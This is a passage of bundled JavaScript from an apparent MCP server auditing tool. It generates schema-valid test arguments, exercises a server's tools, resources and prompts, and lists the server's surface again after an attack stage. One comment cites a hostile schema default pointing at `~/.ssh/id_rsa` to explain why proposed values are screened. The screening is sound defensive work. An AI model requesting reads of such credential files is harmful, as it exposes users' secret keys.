    const properties = isRecord(own(schema, 'properties')) ? own(schema, 'properties') : {};
    const required = new Set(stringList(own(schema, 'required')));
    const fillAll = variant % 2 === 1;
    const out = {};
    const additional = own(schema, 'additionalProperties');
    const schemaFor = (key) => Object.hasOwn(properties, key) ? properties[key] : additional === undefined || additional === false ? true : additional;
    const add = (key) => {
        if (Object.hasOwn(out, key))
            return;
        // a wait's length is the schema's smallest useful one, not its default (wait-values.ts)
        const wait = waitValue(context, schemaFor(key), key);
        if (wait !== undefined) {
            context.nodes += 1;
            return setOwn(out, key, wait);
        }
        const outerUnsure = context.unsure;
        context.unsure = false;
        const value = generate(context, schemaFor(key), key, depth + 1, variant);
        // an optional property we could not fill validly is better left out than sent wrong
        const keep = value !== undefined && (!context.unsure || required.has(key));
        if (keep)
            setOwn(out, key, value);
        context.unsure = outerUnsure || (keep && context.unsure);
    };
    for (const key of Object.keys(properties)) {
        if (required.has(key) || fillAll || hasProposedValue(context, properties[key]) || waitValue(context, properties[key], key) !== undefined)
            add(key);
    }
    for (const key of required)
        add(key);
    // dependentRequired (2019-09) and the array form of dependencies (draft 4-7)
    for (const keyword of ['dependentRequired', 'dependencies']) {
        const dependencies = own(schema, keyword);
        if (!isRecord(dependencies))
            continue;
        for (const [key, needs] of Object.entries(dependencies)) {
            if (Object.hasOwn(out, key) && Array.isArray(needs))
                for (const need of stringList(needs))
                    add(need);
        }
    }
    const minProperties = numberField(schema, 'minProperties') ?? 0;
    for (const key of Object.keys(properties)) {
        if (Object.keys(out).length >= minProperties)
            break;
        add(key);
    }
    for (let extra = 1; extra <= 64 && Object.keys(out).length < minProperties && additional !== false; extra += 1) {
        add(`field${extra}`);
    }
    return out;
}
function generateArray(context, schema, hint, depth, variant) {
    const minItems = numberField(schema, 'minItems') ?? 0;
    const maxItems = numberField(schema, 'maxItems') ?? Infinity;
    const count = Math.min(Math.max(minItems, 1), maxItems, MAX_ARRAY_ITEMS);
    const items = own(schema, 'items');
    const tuple = Array.isArray(own(schema, 'prefixItems')) ? own(schema, 'prefixItems') : Array.isArray(items) ? items : [];
    const rest = Array.isArray(items) ? (own(schema, 'additionalItems') ?? true) : (items ?? true);
    const unique = own(schema, 'uniqueItems') === true;
    const itemHint = hint === undefined ? undefined : (0,key_hints/* singular */.cL)(hint);
    const out = [];
    const seen = new Set();
    for (let index = 0; index < Math.max(count, Math.min(tuple.length, maxItems)); index += 1) {
        const itemSchema = index < tuple.length ? tuple[index] : rest;
        let value;
        for (let attempt = 0; attempt < 4; attempt += 1) {
            value = generate(context, itemSchema, itemHint, depth + 1, variant + index + attempt);
            if (!unique || !seen.has(JSON.stringify(value)))
                break;
        }
        if (value === undefined || (unique && seen.has(JSON.stringify(value))))
            break;
        seen.add(JSON.stringify(value));
        out.push(value);
    }
    return out;
}
const FORMAT_VALUES = new Map([
    ['uri', 'http://example.com/'],
    ['url', 'http://example.com/'],
    ['iri', 'http://example.com/'],
    ['uri-reference', 'http://example.com/'],
    ['iri-reference', 'http://example.com/'],
    ['uri-template', 'http://example.com/{id}'],
    ['email', 'alex@example.com'],
    ['idn-email', 'alex@example.com'],
    ['hostname', 'example.com'],
    ['idn-hostname', 'example.com'],
    ['ipv4', '192.0.2.1'],
    ['ipv6', '2001:db8::1'],
    ['date-time', '2024-01-01T00:00:00Z'],
    ['iso-date-time', '2024-01-01T00:00:00Z'],
    ['date', '2024-01-01'],
    ['time', '12:00:00Z'],
    ['iso-time', '12:00:00Z'],
    ['duration', 'P1D'],
    ['uuid', '00000000-0000-4000-8000-000000000000'],
    ['json-pointer', '/notes'],
    ['json-pointer-uri-fragment', '#/notes'],
    ['relative-json-pointer', '0'],
    ['regex', '^notes$'],
    ['byte', 'aGVsbG8gd29ybGQ='],
    ['password', 'correct-horse-battery'],
    ['binary', 'hello world']
]);
// formats whose values stay valid when padded at the end (the path of a URL)
const PADDABLE_FORMATS = new Set(['uri', 'url', 'iri', 'uri-reference', 'iri-reference']);
function generateString(context, schema, hint, variant) {
    const minLength = Math.min(numberField(schema, 'minLength') ?? 0, MAX_STRING_LENGTH);
    const maxLength = numberField(schema, 'maxLength') ?? Infinity;
    const fits = (text) => {
        const length = [...text].length;
        return length >= minLength && length <= maxLength;
    };
    const format = own(schema, 'format');
    const pattern = own(schema, 'pattern');
    const formatValue = typeof format === 'string' ? FORMAT_VALUES.get(format) : undefined;
    if (formatValue !== undefined && typeof pattern !== 'string') {
        return PADDABLE_FORMATS.has(format) ? fitLength(formatValue, minLength, maxLength) : formatValue;
    }
    if (typeof pattern === 'string') {
        const generated = generateFromPattern(pattern, minLength, maxLength, variant);
        if (generated !== undefined && fits(generated) && isSafeString(generated, hint))
            return generated;
    }
    if (typeof pattern === 'string') {
        context.unsure = true;
        context.capped = true;
    }
    const hinted = formatValue ?? hintString(hint, variant);
    if (hinted !== undefined && fits(hinted))
        return hinted;
    return fitLength(hinted ?? (variant > 0 ? `${PLAIN_TEXT} ${variant + 1}` : PLAIN_TEXT), minLength, maxLength);
}
function fitLength(text, minLength, maxLength) {
    let out = text;
    if (out.length < minLength)
        out += 'x'.repeat(minLength - out.length);
    if (out.length > maxLength)
        out = out.slice(0, maxLength);
    return out;
}
function generateNumber(schema, integer, hint, variant) {
    const preferred = hintNumber(hint) ?? 1 + variant;
    const lower = numberBound(schema, 'lower');
    const upper = numberBound(schema, 'upper');
    const multipleOf = numberField(schema, 'multipleOf');
    const candidates = [preferred, 1, 0];
    if (lower)
        candidates.push(lower.value, Math.floor(lower.value) + 1, lower.value + 1);
    if (upper)
        candidates.push(upper.value, Math.ceil(upper.value) - 1, upper.value - 1);
    if (lower && upper)
        candidates.push((lower.value + upper.value) / 2);
    const expanded = multipleOf !== undefined && multipleOf > 0
        ? candidates.flatMap((c) => [Math.ceil(c / multipleOf) * multipleOf, Math.floor(c / multipleOf) * multipleOf])
        : candidates;
    const fitting = expanded.find((value) => numberFits(value, schema, integer));
    return fitting ?? (lower ? lower.value : preferred);
}
function generateBoolean(hint, variant) {
    // "dry run" style switches make the call harmless; everything else starts from false
    if ((0,key_hints/* hintKind */.U)(hint) === 'safe-switch')
        return true;
    return variant % 2 === 1;
}

;// CONCATENATED MODULE: ./src/probe/synthesize-args.ts



// Arguments for calling a server's tools, prompts and resource templates, synthesized from what the
// server declared. The goal is a VALID call (one the server accepts and acts on), so that what the
// trace shows is the tool's real behaviour rather than its input validation.
//
// Two safety rules hold whatever the schema says, because the schema comes from the server under audit:
// - No value points the server anywhere we did not choose: URLs and host names are example.com (or
//   subdomains) and addresses are RFC 5737 / 2001:db8::/32; paths are relative and stay inside the
//   working directory (no absolute paths, no '..', no '~' or $HOME, so never the canary home). Values the
//   schema proposes (const, enum, default, examples, pattern) are screened against these rules and
//   replaced when they fail. Otherwise a server could write `default: "~/.ssh/id_rsa"` and get the
//   auditor to ask it, on the record, to read the canary it wants to steal.
// - No untrusted regular expression is ever executed (a `pattern` could backtrack for hours): patterns
//   are parsed by a small generator for a safe subset, and anything outside it falls back to a hint.
//
// Schema walking is capped (object depth, nodes, $ref chains) and nothing throws: a schema too odd to
// use yields `{}`.
//
// `variant` (0 for the first call of a tool, 1, 2… for repeats: see variantOf) changes the input where the schema
// allows it: enum members, examples and anyOf/oneOf branches cycle, numbers and free text change, and
// odd variants also fill every optional property (even variants fill the required ones plus those the
// schema gives a default, example or const for: the call most likely to succeed).
//
// The parts live in ./synthesize/: normalize-schema ($ref, allOf, anyOf/oneOf), choose-type,
// proposed-values, generate (the walk), key-hints, wait-values (a `duration` or `delayMs` waits as little as
// the schema allows, in every variant), safe-values (the screening), regex-subset (patterns) and
// uri-template (resource templates).
/**
 * The variant of the arguments for a call's 1-based iteration (CallRecord.iteration): a tool's first call,
 * iteration 1, gets variant 0, the input most likely to succeed; its second gets variant 1, and so on.
 */
function variantOf(iteration) {
    return iteration - 1;
}
function synthesizeArguments(inputSchema, variant = 0) {
    return synthesizeArgumentsNoting(inputSchema, variant).arguments;
}
/** Like synthesizeArguments, and says whether a cap or an unsupported construct made it a best effort. */
function synthesizeArgumentsNoting(inputSchema, variant = 0) {
    const context = { root: inputSchema, nodes: 0, unsure: false, capped: false };
    try {
        const value = generate(context, inputSchema, undefined, 0, Number.isSafeInteger(variant) && variant > 0 ? variant : 0);
        return { arguments: isRecord(value) ? value : {}, bestEffort: context.capped || !isRecord(value) };
    }
    catch {
        return { arguments: {}, bestEffort: true };
    }
}
/**
 * Values for a prompt's arguments (prompt arguments are always strings). Every declared argument is
 * filled, optional ones too: a prompt only renders text, and a fuller template shows more of it.
 */
function synthesizePromptArguments(prompt) {
    const out = {};
    const declared = isRecord(prompt) ? own(prompt, 'arguments') : undefined;
    if (!Array.isArray(declared))
        return out;
    for (const argument of declared.slice(0, 100)) {
        const name = isRecord(argument) ? own(argument, 'name') : undefined;
        if (typeof name !== 'string' || name === '')
            continue;
        setOwn(out, name, hintString(name, 0) ?? PLAIN_TEXT);
    }
    return out;
}

;// CONCATENATED MODULE: ./src/probe/exercise-tools.ts





/** Retries a tool gets because its answer showed it choked on the sink's reply and named what was missing. */
const REPLY_RETRIES = 3;
/** A server's own limiter refused the call (`Rate limit exceeded`: a per-second budget the audit's quick calls spend). */
const RATE_LIMITED = /\brate[ _-]?limit(ed)?\b|too many requests/i;
/** The pause after such a refusal, past a one-second window, and how many a session takes at most. */
const RATE_LIMIT_PAUSE_MS = 1_100;
const MAX_RATE_LIMIT_PAUSES = 3;
const BEST_EFFORT_NOTE = 'best-effort arguments: the input schema is beyond what the synthesizer follows (depth, size, $ref or pattern limits)';
/** Whether a tool's declared input schema names any parameter. */
function namesParameters(tool) {
    const declared = tool.inputSchema?.properties;
    return typeof declared === 'object' && declared !== null && Object.keys(declared).length > 0;
}
/** Calls tools with synthesized arguments, each attempt learning from the errors of the ones before. */
class ToolExerciser {
    run;
    states = new Map();
    created = [];
    replyLessons = new Map();
    /** the names any tool's rejection showed the server reads as one type: in every tool's lesson */
    replyNames = {};
    lessonInForce = 'null';
    rateLimitPauses = 0;
    constructor(run) {
        this.run = run;
    }
    /** Rounds over the tools in agent order, until each has `callsPerTool` successes or has used its attempts. */
    async exercise(tools, afterFirstRound) {
        const ordered = orderTools(tools);
        for (let round = 1; round <= this.run.maxAttempts; round++) {
            let called = false;
            for (const tool of ordered) {
                const state = this.stateOf(tool);
                const calls = Math.min(this.run.callsPerTool, this.run.callsCap?.get(tool.name) ?? Infinity);
                const attempts = this.run.maxAttempts - (this.run.callsPerTool - calls);
                if (state.ok + state.final >= calls || state.attempts >= attempts)
                    continue;
                await this.callTool(tool, state);
                called = true;
            }
            if (round === 1)
                await afterFirstRound?.();
            if (!called)
                break;
        }
    }
    /** One more call of each tool, in agent order (a held session's calls after its wait). */
    async again(tools) {
        for (const tool of orderTools(tools))
            await this.callTool(tool, this.stateOf(tool));
    }
    /** One extra call per literal the tool's code compares a parameter against (steered-calls.ts). */
    async steer(tools, items) {
        return steerCalls(tools, items, async (tool, param, value) => {
            const { workspace, memory } = this.run;
            const state = this.stateOf(tool);
            const iteration = (state.attempts += 1);
            const shaped = this.withCodeInput(tool);
            const { arguments: synthesized } = synthesizeArgumentsNoting(shaped.inputSchema, 0);
            const args = { ...fitArguments(shaped, synthesized, 0, state, workspace, this.created, memory), [param]: value };
            this.teachSink(tool.name);
            await this.run.requests.callTool(tool.name, iteration, args, { tool, noteBefore: `steered by the code: ${param} = ${JSON.stringify(value)}` });
            return this.run.calls.at(-1)?.id;
        });
    }
    /** Writes the tool's reply lesson for the sink, when it differs from the one in force. */
    teachSink(tool) {
        if (!this.run.replyLessons)
            return;
        const own = this.replyLessons.get(tool)?.lesson;
        const shared = Object.keys(this.replyNames).length > 0 ? { names: this.replyNames } : null;
        const lesson = own || shared ? { ...(own ?? { tool, fields: [], reads: [] }), ...shared } : null;
        const text = JSON.stringify(lesson);
        if (text === this.lessonInForce)
            return;
        this.lessonInForce = text;
        this.run.replyLessons(lesson);
    }
    /** True when the error named something the reply lacked that the tool's lesson did not hold yet, and retries are left. */
    learnReply(tool, why) {
        if (!this.run.replyLessons)
            return false;
        const part = replyLessonFrom(why);
        const known = this.replyLessons.get(tool);
        if (!part || (known?.retries ?? 0) >= REPLY_RETRIES)
            return false;
        const names = mergeNames(this.replyNames, part);
        if (names)
            this.replyNames = names;
        const merged = mergeLesson(tool, known?.lesson, part);
        if (!merged && !names)
            return false;
        this.replyLessons.set(tool, { lesson: merged ?? known?.lesson ?? { tool, fields: [], reads: [] }, retries: (known?.retries ?? 0) + 1 });
        return true;
    }
    stateOf(tool) {
        let state = this.states.get(tool.name);
        if (!state)
            this.states.set(tool.name, (state = { attempts: 0, ok: 0, final: 0, lessons: [] }));
        return state;
    }
    /**
     * The tool with the schema its handler's code parses its arguments with, when its declared one names no
     * parameter (a converter that no longer reads the code's schemas lists `{}`): its calls then get past that parse.
     */
    withCodeInput(tool) {
        const code = this.run.codeInputs?.[tool.name];
        if (typeof code !== 'object' || code === null || namesParameters(tool))
            return tool;
        return { ...tool, inputSchema: code };
    }
    async callTool(tool, state) {
        const { workspace, memory } = this.run;
        const iteration = state.attempts + 1;
        const variant = variantOf(iteration);
        const shaped = this.withCodeInput(tool);
        const { arguments: synthesized, bestEffort } = synthesizeArgumentsNoting(shaped.inputSchema, variant);
        const args = fitArguments(shaped, synthesized, variant, state, workspace, this.created, memory);
        state.attempts = iteration;
        this.teachSink(tool.name);
        const answer = await this.run.requests.callTool(tool.name, iteration, args, { tool, noteBefore: bestEffort ? BEST_EFFORT_NOTE : undefined });
        const outcome = this.run.calls[this.run.calls.length - 1]?.outcome;
        if (!answer.ok && RATE_LIMITED.test(answer.why) && this.rateLimitPauses < MAX_RATE_LIMIT_PAUSES) {
            // the next call waits out the server's own window, a few times a session at most
            this.rateLimitPauses += 1;
            await new Promise((resolve) => setTimeout(resolve, RATE_LIMIT_PAUSE_MS));
        }
        if (answer.ok) {
            state.ok += 1;
            memory.remember(answer.response);
            this.created.push(...createdPaths(tool, args, workspace));
        }
        else if (this.learnReply(tool.name, answer.why)) {
            // the tool choked on the sink's reply and said on what: the next call's reply has it (a few times at most)
            if (outcome === 'error-result')
                state.lessons = [...state.lessons, learnFrom(answer.why)].slice(-3);
        }
        else if (outcome === 'error-result' || (outcome === 'protocol-error' && /^-32602:/.test(answer.why))) {
            state.lessons = [...state.lessons, learnFrom(answer.why)].slice(-3);
        }
        else {
            // A timeout, an oversized answer or the server's own failure (internal error): another variant
            // would not teach anything, so the attempt counts toward --calls like a success would.
            state.final += 1;
        }
    }
}

;// CONCATENATED MODULE: ./src/probe/run-scenario.ts
/** The scenario's steps, in order; returns the items they reached (synthesis leaves those alone). */
async function runScenario(steps, run) {
    const reached = new Set();
    const iterations = new Map();
    for (const step of steps) {
        const key = `${step.kind}\0${step.target}`;
        const iteration = (iterations.get(key) ?? 0) + 1;
        iterations.set(key, iteration);
        const args = step.arguments ?? {};
        const options = { step: step.name };
        const answer = step.kind === 'tool'
            ? await run.requests.callTool(step.target, iteration, args, { ...options, tool: run.tools.find((tool) => tool.name === step.target) })
            : step.kind === 'resource'
                ? await run.requests.readResource(step.target, iteration, options)
                : await run.requests.getPrompt(step.target, iteration, args, options);
        if (answer.ok) {
            reached.add(key);
            run.remember(answer.response);
        }
        if (step.expect !== undefined && answer.ok !== (step.expect === 'ok')) {
            const outcome = run.calls[run.calls.length - 1]?.outcome ?? 'error';
            run.gaps.push({
                what: `scenario step "${step.name}"`,
                why: `expected ${step.expect}, the ${step.kind} ${answer.ok ? 'succeeded' : `ended in ${outcome}`}`
            });
        }
    }
    return reached;
}

;// CONCATENATED MODULE: ./src/probe/synthesize/uri-template.ts
// Resource templates: an RFC 6570 URI template filled with values from the key-name hints.


/**
 * Expands an RFC 6570 URI template (levels 1-3: `{var}`, `{+var}`, `{#var}`, `{.var}`, `{/var}`,
 * `{;var}`, `{?a,b}`, `{&a}`; prefix and explode modifiers accepted) with values from the key-name hints.
 * Anything that is not a well-formed expression is kept as written.
 */
function instantiateUriTemplate(template) {
    return template.replace(/\{([^{}]*)\}/g, (whole, expression) => expandExpression(expression) ?? whole);
}
const OPERATORS = {
    '': { first: '', separator: ',', named: false, reserved: false },
    '+': { first: '', separator: ',', named: false, reserved: true },
    '#': { first: '#', separator: ',', named: false, reserved: true },
    '.': { first: '.', separator: '.', named: false, reserved: false },
    '/': { first: '/', separator: '/', named: false, reserved: false },
    ';': { first: ';', separator: ';', named: true, reserved: false },
    '?': { first: '?', separator: '&', named: true, reserved: false },
    '&': { first: '&', separator: '&', named: true, reserved: false }
};
function expandExpression(expression) {
    const operatorChar = /^[+#./;?&]/.test(expression) ? expression[0] : '';
    const operator = OPERATORS[operatorChar];
    if (operator === undefined)
        return undefined;
    const specs = expression.slice(operatorChar.length).split(',');
    const parts = [];
    for (const spec of specs) {
        const match = /^((?:[A-Za-z0-9_]|%[0-9A-Fa-f]{2})(?:\.?(?:[A-Za-z0-9_]|%[0-9A-Fa-f]{2}))*)(?::([1-9]\d{0,3})|\*)?$/.exec(spec);
        if (!match)
            return undefined;
        const name = match[1];
        let value = templateValue(name);
        if (match[2] !== undefined)
            value = [...value].slice(0, Number(match[2])).join('');
        const encoded = encodeTemplateValue(value, operator.reserved);
        parts.push(operator.named ? (encoded === '' && operatorChar === ';' ? name : `${name}=${encoded}`) : encoded);
    }
    return operator.first + parts.join(operator.separator);
}
function templateValue(name) {
    const kind = (0,key_hints/* hintKind */.U)(safeDecode(name));
    if (kind === 'path' || kind === 'filename')
        return 'notes.txt';
    if (kind === undefined || kind === 'text')
        return 'hello';
    return hintString(name, 0) ?? 'hello';
}
function encodeTemplateValue(value, reserved) {
    const allowed = reserved ? /[A-Za-z0-9\-._~:/?#[\]@!$&'()*+,;=]/ : /[A-Za-z0-9\-._~]/;
    let out = '';
    for (const char of value) {
        out += allowed.test(char) ? char : [...Buffer.from(char, 'utf8')].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');
    }
    return out;
}

;// CONCATENATED MODULE: ./src/probe/stages/exercise.ts





async function exercise(session, requests, budget, initializedAt) {
    const { options, result } = session;
    const workspace = options.workspace ?? null;
    const memory = new ResultMemory(workspace?.root ?? null);
    const { callsPerTool, maxAttempts } = budget;
    // The handlers' schemas are read from the server's code only for a tool that names no parameter.
    const codeInputs = options.codeInputs && result.listing.tools.some((tool) => !namesParameters(tool)) ? await options.codeInputs() : null;
    const tools = new ToolExerciser({
        requests,
        workspace,
        memory,
        calls: result.calls,
        callsPerTool,
        maxAttempts,
        ...(options.callsCap ? { callsCap: options.callsCap } : {}),
        ...(options.replyLessons ? { replyLessons: options.replyLessons } : {}),
        ...(codeInputs ? { codeInputs } : {})
    });
    const scenario = options.scenario ?? null;
    const reached = scenario
        ? await runScenario(scenario.steps, {
            requests,
            tools: result.listing.tools,
            remember: (response) => memory.remember(response),
            calls: result.calls,
            gaps: result.gaps
        })
        : new Set();
    // callsPerTool 0 (a remote server): list only, nothing is called or read
    const synthesize = callsPerTool > 0 && (scenario?.synthesize ?? true);
    const unreached = (kind, name) => (items) => synthesize ? items.filter((item) => !reached.has(`${kind}\0${name(item)}`)) : [];
    const listing = {
        tools: unreached('tool', (tool) => tool.name)(result.listing.tools),
        resources: unreached('resource', (resource) => resource.uri)(result.listing.resources),
        resourceTemplates: synthesize ? result.listing.resourceTemplates : [],
        prompts: unreached('prompt', (prompt) => prompt.name)(result.listing.prompts)
    };
    await tools.exercise(listing.tools, async () => {
        for (const resource of listing.resources)
            await requests.readResource(resource.uri, 1);
        for (const template of listing.resourceTemplates)
            await requests.readTemplate(template.uriTemplate, instantiateUriTemplate(template.uriTemplate));
        for (const prompt of result.listing.prompts.filter((candidate) => listing.prompts.includes(candidate))) {
            await requests.getPrompt(prompt.name, 1, synthesizePromptArguments(prompt));
        }
    });
    if (synthesize && options.staticItems && !session.closed)
        result.steered = await tools.steer(listing.tools, await options.staticItems());
    if (synthesize && options.holdMs && !session.closed) {
        // A held pass: the session stays open (the server's timers run), then each tool is called again.
        options.logger.info(`holding the session open ${Math.round(options.holdMs / 1000)} s`);
        await session.link.closedWithin(initializedAt + options.holdMs - Date.now());
        await session.checkAborted();
        if (!session.closed)
            await tools.again(listing.tools);
    }
    return { tools, synthesize };
}

// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 9 modules
var schemas = __webpack_require__(15649);
// EXTERNAL MODULE: ./src/neutralize.ts
var neutralize = __webpack_require__(12124);
;// CONCATENATED MODULE: ./src/probe/bound-depth.ts
// A server's declarations are JSON of any depth: V8 parses 100,000 nested levels iteratively, but every
// recursive walk after that (JSON.stringify of the report, the manifest's canonical form, schema code)
// overflows the stack and kills the audit. Declarations are cut to MAX_DECLARATION_DEPTH on arrival,
// without recursion; what was cut is replaced by a marker, so the manifest shows it.
const MAX_DECLARATION_DEPTH = 64;
const DEPTH_MARKER_KEY = 'x-mcp-behave-cut';
/** A copy of `value` no deeper than `maxDepth`; `cut` is true when something was replaced. */
function boundDepth(value, maxDepth = MAX_DECLARATION_DEPTH) {
    let cut = false;
    const copyShallow = (node, depth) => {
        if (typeof node !== 'object' || node === null)
            return node;
        if (depth >= maxDepth) {
            cut = true;
            return { [DEPTH_MARKER_KEY]: `nesting deeper than ${maxDepth} levels was cut` };
        }
        return Array.isArray(node) ? new Array(node.length) : {};
    };
    const root = copyShallow(value, 0);
    const stack = [];
    if (typeof root === 'object' && root !== null && maxDepth > 0)
        stack.push({ from: value, to: root, depth: 0 });
    while (stack.length > 0) {
        const { from, to, depth } = stack.pop();
        for (const [key, child] of Object.entries(from)) {
            const copy = copyShallow(child, depth + 1);
            Object.defineProperty(to, key, { value: copy, enumerable: true, writable: true, configurable: true });
            if (typeof copy === 'object' && copy !== null && typeof child === 'object' && child !== null && depth + 1 < maxDepth) {
                stack.push({ from: child, to: copy, depth: depth + 1 });
            }
        }
    }
    return { value: root, cut };
}

;// CONCATENATED MODULE: ./src/probe/listing.ts





// Every list is followed to its end, within these caps; a cut list is a coverage gap (a finding).
const MAX_LIST_PAGES = 1_000;
const MAX_LIST_ITEMS = 10_000;
// Lists are parsed leniently: the SDK's schemas reject a whole page for one odd entry (an inputSchema
// without `type: "object"`, say), which would hide every tool on it. An entry without its key field
// cannot be called and is counted instead.
const LenientPageSchema = schemas/* looseObject */._H3({ nextCursor: schemas/* string */.YjP().optional() });
function keyedEntries(page, listKey, nameKey, skipped) {
    const entries = Array.isArray(page[listKey]) ? page[listKey] : [];
    const kept = [];
    for (const entry of entries) {
        if (typeof entry === 'object' && entry !== null && typeof entry[nameKey] === 'string')
            kept.push(boundDepth(entry).value);
        else
            skipped.count += 1;
    }
    return kept;
}
/** Follows nextCursor to the end; `cut` says why a list stopped early. */
async function collectPages(fetchPage) {
    const items = [];
    const seen = new Set();
    let cursor;
    for (let page = 0; page < MAX_LIST_PAGES; page++) {
        const result = await fetchPage(cursor);
        const room = MAX_LIST_ITEMS - items.length;
        items.push(...result.items.slice(0, room));
        if (result.items.length > room || (items.length >= MAX_LIST_ITEMS && result.nextCursor))
            return { items, cut: `stopped at ${MAX_LIST_ITEMS} items` };
        if (!result.nextCursor)
            return { items };
        if (seen.has(result.nextCursor))
            return { items, cut: 'the server sent the same cursor twice' };
        seen.add(result.nextCursor);
        cursor = result.nextCursor;
    }
    return { items, cut: `stopped after ${MAX_LIST_PAGES} pages` };
}
/**
 * Lists everything the server's capabilities announce. A list that fails or is cut is logged and
 * added to `gaps` (stage prefixes its name: '' for the first listing, 're-listing ' after the calls).
 */
async function listSurface(client, timeoutMs, stage, gaps, logger) {
    const caps = client.getServerCapabilities() ?? {};
    const listing = { tools: [], resources: [], resourceTemplates: [], prompts: [] };
    const listAll = async (method, key, nameKey) => {
        const what = `${stage}${method}`;
        const skipped = { count: 0 };
        try {
            const pages = await collectPages(async (cursor) => {
                const request = { method, params: cursor ? { cursor } : {} };
                const page = await client.request(request, LenientPageSchema, { timeout: timeoutMs });
                return { items: keyedEntries(page, key, nameKey, skipped), nextCursor: page.nextCursor };
            });
            listing[key] = pages.items;
            const malformed = skipped.count > 0 ? `${skipped.count} entries without a ${nameKey} could not be called` : undefined;
            for (const why of [pages.cut, malformed]) {
                if (why === undefined)
                    continue;
                logger.warn(`${what}: ${why}`);
                gaps.push({ what, why });
            }
        }
        catch (error) {
            // An optional list the server does not implement (resources/templates/list on a server with plain
            // resources, say) has nothing in it to exercise: Method not found is its answer, not a failure.
            if (method !== 'tools/list' && error instanceof types/* McpError */.Nh && error.code === types/* ErrorCode */.O4.MethodNotFound) {
                logger.debug(`${what}: not implemented by the server (Method not found)`);
                return;
            }
            const why = `failed: ${(0,neutralize/* excerpt */.Kb)(describeError(error), 300)}`;
            logger.warn(`${what} ${why}`);
            gaps.push({ what, why });
        }
    };
    if (caps.tools)
        await listAll('tools/list', 'tools', 'name');
    if (caps.resources) {
        await listAll('resources/list', 'resources', 'uri');
        await listAll('resources/templates/list', 'resourceTemplates', 'uriTemplate');
    }
    if (caps.prompts)
        await listAll('prompts/list', 'prompts', 'name');
    return listing;
}

;// CONCATENATED MODULE: ./src/probe/stages/list.ts

// The listing stage: everything the server's capabilities announce, every page, and the budget of the
// calls that follow, which a huge surface lowers.
/**
 * Above this many tools + resources + templates + prompts, each item is called once and without the
 * settle pause: 5,000 tools × 3 calls × 50 ms would take over 12 minutes. Background behaviour of one
 * call may then be attributed to the next one.
 */
const HUGE_SURFACE_ITEMS = 500;
/** Attempts beyond --calls a tool gets to reach its success path (retries that learn from errors). */
const EXTRA_ATTEMPTS = 3;
async function list(session) {
    const { options, client, result } = session;
    result.listing = await listSurface(client, options.timeoutMs, '', result.gaps, options.logger);
    await session.checkAborted();
    const { tools, resources, resourceTemplates, prompts } = result.listing;
    const surface = tools.length + resources.length + resourceTemplates.length + prompts.length;
    const huge = surface > HUGE_SURFACE_ITEMS;
    const callsPerTool = huge ? Math.min(1, options.callsPerTool) : options.callsPerTool;
    if (huge && options.callsPerTool > 1)
        options.logger.info(`${surface} items: each is called once, without pauses between calls`);
    session.recorder.pauses = !huge;
    return { huge, callsPerTool, maxAttempts: huge ? 1 : callsPerTool + EXTRA_ATTEMPTS };
}

;// CONCATENATED MODULE: ./src/probe/attack/attack-items.ts
// What the attack stage left on the server's surface (issue 42): a server that files what it is given
// under the name it is given (server-everything's gzip-file-as-resource adds a resource per call) lists,
// after the attacks, items named by the hostile values. Those are the attacks' doing, not the server's
// surface: the re-listing leaves them out, so they are neither session changes nor read as new resources,
// and the coverage is the exercise's. An item the first listing had is always kept.
/** The forms of a name a value may show up in: as sent, and URI-decoded. */
function attack_items_forms(text) {
    try {
        const decoded = decodeURIComponent(text);
        return decoded === text ? [text] : [text, decoded];
    }
    catch {
        return [text];
    }
}
/** The listing without the items, new since `initial`, whose name or URI carries an attack's marker or value. */
function withoutAttackItems(listing, initial, calls) {
    const attacks = calls.flatMap((call) => (call.attack ? [call.attack] : []));
    if (attacks.length === 0)
        return listing;
    const named = (...texts) => texts.some((text) => text !== undefined &&
        attack_items_forms(text).some((form) => attacks.some((attack) => form.includes(attack.marker) || (attack.value.length >= 8 && form.includes(attack.value)))));
    const tools = new Set(initial.tools.map((tool) => tool.name));
    const resources = new Set(initial.resources.map((resource) => resource.uri));
    const templates = new Set(initial.resourceTemplates.map((template) => template.uriTemplate));
    const prompts = new Set(initial.prompts.map((prompt) => prompt.name));
    return {
        tools: listing.tools.filter((tool) => tools.has(tool.name) || !named(tool.name, tool.title)),
        resources: listing.resources.filter((resource) => resources.has(resource.uri) || !named(resource.uri, resource.name, resource.title)),
        resourceTemplates: listing.resourceTemplates.filter((template) => templates.has(template.uriTemplate) || !named(template.uriTemplate, template.name, template.title)),
        prompts: listing.prompts.filter((prompt) => prompts.has(prompt.name) || !named(prompt.name, prompt.title))
    };
}

;// CONCATENATED MODULE: ./src/probe/stages/relist.ts


// The session's last stage: everything listed again, to catch a surface that changed mid-session. A tool
// or resource that appeared meanwhile is part of what the server does, so it is exercised too.
/** At most this many resources that appeared mid-session are read. */
const MAX_NEW_RESOURCES = 100;
async function relist(session, requests, exercised) {
    const { options, client, result } = session;
    const listed = await listSurface(client, options.timeoutMs, 're-listing ', result.gaps, options.logger);
    // what the attack stage's values made the server list is the attacks' doing, not its surface
    const relisting = (result.relisting = withoutAttackItems(listed, result.listing, result.calls));
    if (!exercised.synthesize)
        return;
    const known = new Set(result.listing.tools.map((tool) => tool.name));
    await exercised.tools.exercise(relisting.tools.filter((candidate) => !known.has(candidate.name)));
    const knownUris = new Set(result.listing.resources.map((resource) => resource.uri));
    for (const resource of relisting.resources.filter((candidate) => !knownUris.has(candidate.uri)).slice(0, MAX_NEW_RESOURCES)) {
        await requests.readResource(resource.uri, 1);
    }
}

;// CONCATENATED MODULE: ./src/probe/session.ts










// The MCP session with the audited server, as stages in order (src/probe/stages/): connect (initialize,
// through a client whose answers are traps), list, exercise, attack, re-list; then the shutdown MCP asks for.
// The stages share the session's context and its call recorder, and fill in one ProbeResult.




async function probeServer(options) {
    const session = new SessionContext(options);
    try {
        // aborted before the session began listening (while the engine awaited its setup): stop at once
        await session.checkAborted();
        const initializedAt = await connect(session);
        const budget = await list(session);
        const requests = stageRequests(session);
        try {
            const exercised = await exercise(session, requests, budget, initializedAt);
            if (session.closed)
                throw new errors/* ServerProtocolError */.Gs('the server exited before it was exercised');
            await attack(session, budget);
            if (!session.closed)
                await relist(session, requests, exercised);
        }
        catch (error) {
            if (error instanceof ProbeAborted)
                throw error;
            options.logger.warn(describeError(error));
        }
        const { result } = session;
        // A server that exited under an attack was exercised: the attack stage recorded what ended it.
        if (session.closed && !result.attack?.stopped)
